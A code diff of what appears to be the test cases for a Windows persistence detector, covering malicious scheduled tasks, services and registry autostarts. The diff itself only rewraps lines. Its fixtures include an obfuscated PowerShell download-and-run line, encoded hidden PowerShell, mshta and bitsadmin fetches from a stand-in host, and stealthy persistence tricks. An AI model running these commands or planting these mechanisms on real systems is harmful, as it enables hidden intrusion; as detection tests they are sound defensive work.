@@ -20,7 +20,8 @@ def task(name, why, place, *action, programs=(), payload=None, files=(), path=r'
 
 
 task('unsigned-program-of-a-task', 'The task scheduler starts it with the system.', 'x.exe', EVIL, payload=EVIL)
-task('encoded-powershell-of-a-task', 'PowerShell takes a dash of Unicode for one of its options.', 'Update', 'powershell.exe', '-w hidden \u2013enc SQBFAFgA', programs=[POWERSHELL])
+task('encoded-powershell-of-a-task', 'PowerShell takes a dash of Unicode for one of its options.', 'Update', 'powershell.exe', '-w hidden \u2013enc SQBFAFgA',
+     programs=[POWERSHELL])
 task('file-of-powershell', 'A script of nobody\'s, run by a signed program.', 'a.ps1', 'powershell.exe', r'-ep bypass -File C:\ProgramData\x\a.ps1', programs=[POWERSHELL],
      files=[(r'ProgramData\x\a.ps1', '&("ie"+"x") (iwr http://203.0.113.7/a)')])
 task('registration-of-a-task', 'regsvr32.exe calls DllRegisterServer of any library.', 'x.dll', 'regsvr32.exe', f'/s {LIBRARY}', programs=['regsvr32.exe'], payload=LIBRARY)
@@ -28,11 +29,14 @@ task('library-of-a-task', 'rundll32.exe calls a function of any library.', 'x.dl
 task('shell-of-a-task', 'cmd.exe runs both commands.', 'x.exe', 'cmd.exe', f'/c echo & {EVIL}', programs=['cmd.exe'], payload=EVIL)
 task('page-of-a-task', 'mshta.exe runs the scripts of a page.', 'mshta', 'mshta.exe', 'http://203.0.113.7/x.hta', programs=['mshta.exe'])
 task('script-of-a-task', 'wscript.exe runs the script.', 'x.vbs', 'wscript.exe', r'C:\ProgramData\x\x.vbs', programs=['wscript.exe'], files=[(r'ProgramData\x\x.vbs', 'x = 1')])
-task('fetching-task', 'bitsadmin.exe fetches a file and runs a command behind it.', 'bitsadmin', 'bitsadmin.exe', r'/transfer x http://203.0.113.7/x C:\x.exe', programs=['bitsadmin.exe'])
-task('task-among-those-of-windows', 'A task of a name like Windows\' own, hidden by its index.', 'x.exe', EVIL, payload=EVIL, path=r'\Microsoft\Windows\Clip\LicenseValidation2', index=0)
+task('fetching-task', 'bitsadmin.exe fetches a file and runs a command behind it.', 'bitsadmin', 'bitsadmin.exe', r'/transfer x http://203.0.113.7/x C:\x.exe',
+     programs=['bitsadmin.exe'])
+task('task-among-those-of-windows', 'A task of a name like Windows\' own, hidden by its index.', 'x.exe', EVIL, payload=EVIL,
+     path=r'\Microsoft\Windows\Clip\LicenseValidation2', index=0)
 task('task-without-a-descriptor', 'schtasks and the console don\'t show a task without SD.', 'Update', r'C:\Windows\System32\svchost.exe', security=False)
 task('task-of-the-registry-alone', 'The scheduler takes tasks from the registry; the file is for show.', 'x.exe', EVIL, payload=EVIL, file=False)
-task('task-with-another-file', 'The scheduler takes the registry\'s action, and who looks at the file sees another.', 'x.exe', EVIL, payload=EVIL, in_file=r'C:\Windows\System32\svchost.exe')
+task('task-with-another-file', 'The scheduler takes the registry\'s action, and who looks at the file sees another.', 'x.exe', EVIL, payload=EVIL,
+     in_file=r'C:\Windows\System32\svchost.exe')
 task('program-of-the-users-folder', 'A folder that users may write to.', 'x.exe', r'C:\Users\Public\x.exe', payload=r'C:\Users\Public\x.exe')
 
 
@@ -83,14 +87,18 @@ def parameters(d, **values):
 
 SVCHOST = r'%SystemRoot%\System32\svchost.exe -k netsvcs'
 service('unsigned-program-of-a-service', 'The service manager starts it with the system.', 'x.exe', EVIL, EVIL)
-service('variable-in-a-service', 'Variables of the machine are put into the path.', 'x.exe', r'%kit%\x.exe', r'C:\Windows\Temp\x.exe', lambda d: d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\Windows\Temp'))
+service('variable-in-a-service', 'Variables of the machine are put into the path.', 'x.exe', r'%kit%\x.exe', r'C:\Windows\Temp\x.exe',
+        lambda d: d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\Windows\Temp'))
 service('service-by-globalroot', 'GLOBALROOT leads to the root of all objects.', 'Update', r'\\?\GLOBALROOT\SystemRoot\Temp\x.exe', r'C:\Windows\Temp\x.exe')
 service('library-of-a-service', 'svchost.exe loads ServiceDll.', 'x.dll', SVCHOST, LIBRARY, lambda d: parameters(d, ServiceDll=LIBRARY), kind=0x20)
-service('shell-of-a-service', 'A service need not answer: its command has run.', 'Update', r'C:\Windows\System32\cmd.exe /c powershell -enc SQBFAFgA', more=lambda d: d.windows('cmd.exe', POWERSHELL))
-service('failing-service', 'FailureCommand is run where the service fails.', 'FailureCommand', r'C:\Windows\System32\svchost.exe', more=lambda d: d.system(rf'{SERVICES}\Update', 'FailureCommand', SZ, d.foreign(EVIL)))
+service('shell-of-a-service', 'A service need not answer: its command has run.', 'Update', r'C:\Windows\System32\cmd.exe /c powershell -enc SQBFAFgA',
+        more=lambda d: d.windows('cmd.exe', POWERSHELL))
+service('failing-service', 'FailureCommand is run where the service fails.', 'FailureCommand', r'C:\Windows\System32\svchost.exe',
+        more=lambda d: d.system(rf'{SERVICES}\Update', 'FailureCommand', SZ, d.foreign(EVIL)))
 service('wrapped-program', 'A signed wrapper starts what its parameters name.', 'x.exe', r'"C:\Program Files\App\nssm.exe"', EVIL,
         lambda d: (d.honest(r'C:\Program Files\App\nssm.exe'), parameters(d, Application=EVIL)))
 change.row('counters-of-a-service', 'Who reads performance counters loads Library.', AUTOSTARTS, 'x.dll', lambda d: (
     d.foreign(LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Library', EXPAND, LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Open', SZ, 'Open')))
-change.row('plugin-of-the-name-server', 'The DNS server loads ServerLevelPluginDll.', AUTOSTARTS, 'x.dll', lambda d: d.system(rf'{SERVICES}\DNS\Parameters', 'ServerLevelPluginDll', SZ, d.foreign(LIBRARY)))
+change.row('plugin-of-the-name-server', 'The DNS server loads ServerLevelPluginDll.', AUTOSTARTS, 'x.dll',
+           lambda d: d.system(rf'{SERVICES}\DNS\Parameters', 'ServerLevelPluginDll', SZ, d.foreign(LIBRARY)))
 change.row('svchost-replaced', 'Every service of svchost.exe runs in it.', CHECK, 'svchost.exe', lambda d: d.foreign(r'C:\Windows\System32\svchost.exe'))
